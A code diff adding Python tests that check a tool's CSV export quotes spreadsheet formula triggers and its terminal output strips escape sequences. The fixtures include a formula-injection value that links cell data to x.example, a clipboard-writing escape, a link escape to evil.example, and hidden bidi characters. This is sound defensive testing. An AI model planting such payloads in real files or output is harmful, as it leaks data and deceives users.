@@ -54,3 +54,48 @@ def test_choose_mode():
     assert choose_mode(False, False, False, stdout_isatty=True, geojson=True) == "geojson"
     with pytest.raises(UsageError, match="--json and --jsonl"):
         choose_mode(True, True, False, stdout_isatty=True)
+
+
+# --- spreadsheets and terminals (issue 14, items 4 and 12) ----------------------------------------
+
+from hypothesis import given  # noqa: E402
+from hypothesis import strategies as st  # noqa: E402
+
+from hrfind.output import csv_cell, csv_uncell  # noqa: E402
+
+TRIGGERS = "=+-@\t\r"
+CELLS = st.text(alphabet=st.sampled_from(list(TRIGGERS) + ["'", "a", "1", " ", "(", "\n", "é"]), max_size=12) | st.text(max_size=12)
+
+
+@given(CELLS)
+def test_no_csv_cell_starts_a_formula_and_the_importer_gets_it_back(text):
+    cell = csv_cell(text)
+    assert not cell.startswith(tuple(TRIGGERS))
+    assert csv_uncell(cell) == text
+    if not text.startswith(tuple(TRIGGERS)) and not text.lstrip("'").startswith(tuple(TRIGGERS)):
+        assert cell == text  # everything else is written as it is
+
+
+def test_csv_export_quotes_formulas_but_not_numbers():
+    evil = Service(id="evil", name='=HYPERLINK("http://x.example/?"&A1,"click")', summary="@SUM(1+1)", phone="+1 410 555 0142",
+                   lat=39.2, lon=-76.6)
+    (row,) = csv.DictReader(io.StringIO(csv_text([Item(evil)])))
+    assert row["name"] == "'" + evil.name and row["summary"] == "'@SUM(1+1)" and row["phone"] == "'+1 410 555 0142"
+    assert row["lon"] == "-76.6"  # a number, not text: a spreadsheet reads it as a number
+
+
+ESCAPES = ["\x1b]52;c;cHduZWQ=\x07", "\x1b]8;;http://evil.example\x1b\\", "\x1b[2J", "\x9b31m", "\u202e", "\u200b", "\u2028", "\ufeff"]
+
+
+@given(st.lists(st.sampled_from(ESCAPES) | st.text(max_size=5), max_size=8).map("".join))
+def test_clean_leaves_nothing_a_terminal_acts_on_or_hides(text):
+    cleaned = clean(text)
+    assert not any(c in cleaned for c in "\x1b\x07\x9b\u202e\u200b\u2028\ufeff\u200f\u2066")
+    assert not any(0x80 <= ord(c) <= 0x9f or (ord(c) < 0x20 and c != "\n") for c in cleaned)
+
+
+def test_csv_keeps_the_data_for_files_and_cleans_it_for_a_terminal():
+    van = Service(id="van", name="Van \x1b]52;c;cHduZWQ=\x07 \u202eevil")
+    assert "\x1b]52" in csv_text([Item(van)])
+    shown = csv_text([Item(van)], terminal=True)
+    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown and "Van" in shown
